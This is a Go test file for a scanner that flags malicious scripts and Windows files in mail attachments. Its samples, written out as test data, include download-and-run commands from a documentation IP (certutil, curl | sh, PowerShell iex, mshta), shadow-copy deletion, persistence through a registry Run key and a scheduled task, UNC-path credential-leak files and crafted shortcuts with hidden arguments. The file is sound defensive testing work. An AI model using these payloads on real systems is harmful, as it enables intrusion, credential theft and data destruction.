package script

import (
	"context"
	"encoding/binary"
	"slices"
	"strings"
	"testing"

	"rastel/sanitize/eml"
	"rastel/scanners"
	"rastel/scanners/scannertest"
)

func TestSuite(t *testing.T) { scannertest.Run(t, Scanner{}) }

// member makes the content a member of a container under that name.
func member(t testing.TB, name, content string) *eml.Part {
	t.Helper()
	s := eml.NewSpool(eml.SpoolOptions{})
	t.Cleanup(func() { s.Close() })
	if _, err := s.Write([]byte("Subject: x\r\n\r\nx\r\n")); err != nil {
		t.Fatal(err)
	}
	s.CloseWrite(nil)
	m, _, err := eml.Parse(context.Background(), &eml.Envelope{}, s, eml.Limits{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	b := scanners.NewBudget(scanners.BudgetLimits{}, eml.SpoolOptions{})
	var names []string
	if name != "" {
		names = []string{name}
	}
	p, err := b.Member(context.Background(), m.Root, 1, names, strings.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(p.Release)
	return p
}

// inUTF16 is ASCII in UTF-16 with a byte order mark.
func inUTF16(s string) string { return "\xff\xfe" + string(wide(s)) }

// samples are files as they lie in archives; want is the check and what the detail must say.
var samples = []struct {
	why, name, content string
	check              string // empty: no finding
	says               []string
}{
	{"mIRC script with the name it is looked for under", "script.ini", "[script]\nn0=on 1:TEXT:*!run*:#:{ /run $2- | sockopen x irc.example.net 6667 }\n",
		mirc, []string{"acts on the event text", "talks to IRC (sockopen)"}},
	{"mIRC script under another name", "readme.txt", "on *:JOIN:#:{ if ($nick != $me) { /dcc send $nick c:\\a.exe } }\non *:CONNECT:{ /join #x }\nraw 001:*:{ /mode $me +i }\n",
		mirc, []string{"join", "connect", "raw"}},
	{"control characters of mIRC", "remote.mrc", "on *:START:{ echo \x03\x02hi }\n", mirc, []string{"start"}},
	{"list of servers", "servers.ini", "[servers]\nn0=Undernet: RandomSERVER:irc.undernet.example:6667GROUP:Undernet\nn1=xSERVER:irc2.example.org:6668GROUP:x\n", mirc, []string{"names 2 IRC servers"}},
	{"an ini of another program", "users.ini", "[users]\nann=1\nbob=2\n", "", nil},
	{"a chat log", "log.txt", "<ann> on monday: join us\n<bob> $5 each\n", "", nil},

	{"autorun", "AutoRun.inf", "[AutoRun]\r\nicon=a.ico\r\nopen=setup.exe /s\r\nshell\\explore\\command=x.exe\r\n", autorun, []string{"starts setup.exe /s", "starts x.exe"}},
	{"autorun that shows an icon", "autorun.inf", "[autorun]\nicon=a.ico\nlabel=Photos\n", "", nil},
	{"folder with a class", "desktop.ini", "[.ShellClassInfo]\nCLSID={645FF040-5081-101B-9F08-00AA002F954E}\n", folder, []string{"act as {645FF040"}},
	{"folder with an icon elsewhere", "Desktop.ini", inUTF16("[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.9\\a\\b.ico,0\r\n"), folder, []string{`contacts \\203.0.113.9\a`}},
	{"folder of a user", "desktop.ini", "[.ShellClassInfo]\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\nIconResource=%SystemRoot%\\system32\\imageres.dll,-112\n", "", nil},
	{"Internet shortcut to a server of Windows", "invoice.url", "[InternetShortcut]\nURL=file://203.0.113.9@80/a/b.exe\n", shortcut, []string{"opens file://203.0.113.9@80/a/b.exe"}},
	{"Internet shortcut with an icon elsewhere", "invoice.url", "[InternetShortcut]\nURL=https://example.org/\nIconFile=\\\\203.0.113.9\\x\\y.ico\n", shortcut, []string{`contacts \\203.0.113.9`}},
	{"bookmark", "bookmark.url", "[InternetShortcut]\nURL=https://example.org/page\n", "", nil},
	{"shell command file", "x.scf", "[Shell]\nCommand=2\nIconFile=\\\\203.0.113.9\\share\\x.ico\n", shortcut, []string{`contacts \\203.0.113.9`}},
	{"library (CVE-2025-24054)", "a.library-ms", `<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><simpleLocation><url>\\203.0.113.9\s</url></simpleLocation></libraryDescription>`,
		shortcut, []string{`shows \\203.0.113.9\s`}},
	{"settings with a command", "a.settingContent-ms", `<PCSettings><x xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><DeepLink>%windir%\system32\cmd.exe /c calc</DeepLink></x></PCSettings>`,
		task, []string{`cmd.exe /c calc`}},
	{"scheduled task", "update.xml", inUTF16("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Actions><Exec><Command>mshta.exe</Command><Arguments>http://203.0.113.9/a</Arguments></Exec></Actions></Task>"),
		task, []string{"starts mshta.exe http://203.0.113.9/a"}},
	{"some XML", "a.xml", "<?xml version=\"1.0\"?><a><command>x</command></a>", "", nil},

	{"registry", "a.reg", inUTF16("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"mshta http://203.0.113.9/\"\r\n"),
		registry, []string{"start with Windows", "starts mshta http://203.0.113.9/"}},
	{"registry, harmless", "a.reg", "REGEDIT4\n\n[HKEY_CURRENT_USER\\Software\\Example]\n\"a\"=\"b\"\n", registry, nil},
	{"batch with carets", "run.bat", "@echo off\r\np^owershe^ll -windowstyle hidden -enc AAAA\r\ncertutil -urlcache -f http://203.0.113.9/a.exe a.exe\r\nvssadmin delete shadows\r\n",
		batch, []string{"runs commands (powershell)", "downloads (certutil)", "destroys backups or files (vssadmin)", "decodes hidden content (-windowstyle, -enc)", "http://203.0.113.9/a.exe"}},
	{"batch by its words", "notes.txt", "setlocal\r\nif errorlevel 1 goto end\r\ncd %~dp0\r\n", batch, nil},
	{"PowerShell by its words", "", "$c = New-Object Net.WebClient\niex $c.DownloadString('https://203.0.113.9/p')\n", powershell, []string{"downloads (net.webclient, downloadstring)", "runs commands (iex)"}},
	{"Visual Basic", "a.vbs", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c x\"\n", visualBasic, []string{"runs commands (wscript.shell, cmd)"}},
	{"JavaScript", "a.js", "var x=new ActiveXObject(\"MSXML2.XMLHTTP\");eval(String.fromCharCode(1,2));" + strings.Repeat("QUFB", 200), javascript,
		[]string{"downloads (msxml2.xmlhttp)", "decodes hidden content (fromcharcode)", "carries 800 bytes of encoded content"}},
	{"HTML application", "a.hta", "<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>", application, []string{"runs commands (wscript.shell)"}},
	{"shell script", "install.sh", "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", shell, []string{"downloads (curl)", "http://203.0.113.9/x"}},
	{"prose", "letter.txt", "Dear Ann,\nplease dim the lights, goto the function room and write to the server.\nhttps://example.org/\n", "", nil},
}

func TestWhatScriptsDo(t *testing.T) {
	for _, s := range samples {
		findings, err := Scanner{}.Scan(context.Background(), member(t, s.name, s.content))
		if err != nil {
			t.Fatalf("%s: %v", s.why, err)
		}
		expect(t, s.why, findings, s.check, s.says)
	}
}

func expect(t *testing.T, why string, findings []eml.Finding, check string, says []string) {
	t.Helper()
	switch {
	case check == "" && len(findings) == 0:
		return
	case check == "" || len(findings) == 0 || findings[0].Check != check:
		t.Errorf("%s: findings %v, want one of %q", why, findings, check)
		return
	}
	for _, s := range says {
		if !strings.Contains(findings[0].Detail, s) {
			t.Errorf("%s: detail %q does not say %q", why, findings[0].Detail, s)
		}
	}
}

func TestTheTextOfTheMessageIsLeftAlone(t *testing.T) {
	s := eml.NewSpool(eml.SpoolOptions{})
	defer s.Close()
	if _, err := s.Write([]byte("Subject: how to\r\n\r\n@echo off\r\npowershell -enc AAAA\r\n")); err != nil {
		t.Fatal(err)
	}
	s.CloseWrite(nil)
	m, _, err := eml.Parse(context.Background(), &eml.Envelope{}, s, eml.Limits{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	findings, err := Scanner{}.Scan(context.Background(), m.Root)
	if len(findings) != 0 || err != nil {
		t.Errorf("findings %v, error %v", findings, err)
	}
}

// shortcutFile builds a shortcut (MS-SHLLINK) to cmd.exe with these arguments.
func shortcutFile(arguments, environment, icon string) string {
	le := binary.LittleEndian
	header := make([]byte, linkHeader)
	copy(header, "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F")
	le.PutUint32(header[20:], hasRelativePath|hasArguments|hasIcon|isUnicode)
	le.PutUint32(header[60:], 7)
	b := slices.Clip(header)
	for _, s := range []string{`..\..\Windows\System32\cmd.exe`, arguments, icon} {
		b = le.AppendUint16(b, uint16(len(s)))
		b = slices.Concat(b, wide(s))
	}
	if environment != "" {
		block := make([]byte, 4+4+260+520)
		le.PutUint32(block, uint32(len(block)))
		le.PutUint32(block[4:], environmentBlock)
		copy(block[8:], environment)
		copy(block[8+260:], wide(environment))
		b = slices.Concat(b, block)
	}
	return string(b) + "\x00\x00\x00\x00"
}

func TestShortcuts(t *testing.T) {
	for _, tc := range []struct {
		why, content string
		says         []string
	}{
		{"relative", shortcutFile("/c start a.pdf.exe", "", `C:\Program Files\Reader\reader.exe`),
			[]string{`starts ..\..\Windows\System32\cmd.exe`, "with the arguments /c start a.pdf.exe", "looks like C:\\Program Files", "in a window that is not seen"}},
		{"environment", shortcutFile("-ep bypass iwr http://203.0.113.9/x", `%windir%\System32\WindowsPowerShell\v1.0\powershell.exe`, ""),
			[]string{`starts %windir%\System32\WindowsPowerShell`, "downloads (iwr)", "http://203.0.113.9/x"}},
		{"padded", shortcutFile(strings.Repeat(" ", 300)+"/c x", "", ""), []string{"more than Windows shows", "arguments /c x"}},
		{"appended", shortcutFile("/c x", "", "") + "more bytes", []string{"has 10 bytes behind its end"}},
		{"cut", shortcutFile("/c x", "", "")[:100], []string{"is damaged"}},
	} {
		findings, err := Scanner{}.Scan(context.Background(), member(t, "a.lnk", tc.content))
		if err != nil {
			t.Fatal(err)
		}
		expect(t, tc.why, findings, shortcut, tc.says)
	}
}

func TestTheClientUnderAnotherName(t *testing.T) {
	program := "MZ" + strings.Repeat("\x00", 70_000) + string(wide("CompanyName\x00mIRC Co. Ltd.")) + strings.Repeat("\x01", 5000)
	findings, err := Scanner{}.Scan(context.Background(), member(t, "svchost.exe", program))
	if err != nil {
		t.Fatal(err)
	}
	expect(t, "renamed", findings, mirc, []string{"under another name (svchost.exe)"})
}

func FuzzScan(f *testing.F) {
	for _, s := range samples {
		f.Add(s.name, s.content)
	}
	f.Add("a.lnk", shortcutFile("/c x", "%x%", "y"))
	f.Fuzz(func(t *testing.T, name, content string) {
		findings, err := Scanner{}.Scan(context.Background(), member(t, name, content))
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range findings {
			if len(f.Detail) > 16<<10 {
				t.Errorf("detail of %d bytes", len(f.Detail))
			}
		}
		if len(findings) > 5 {
			t.Errorf("%d findings", len(findings))
		}
	})
}

func BenchmarkScan(b *testing.B) {
	p := member(b, "a.txt", strings.Repeat("A line of prose that has no script in it, see https://example.org/ for more.\r\n", 13_000))
	b.SetBytes(p.Size)
	for b.Loop() {
		if _, err := (Scanner{}).Scan(context.Background(), p); err != nil {
			b.Fatal(err)
		}
	}
}
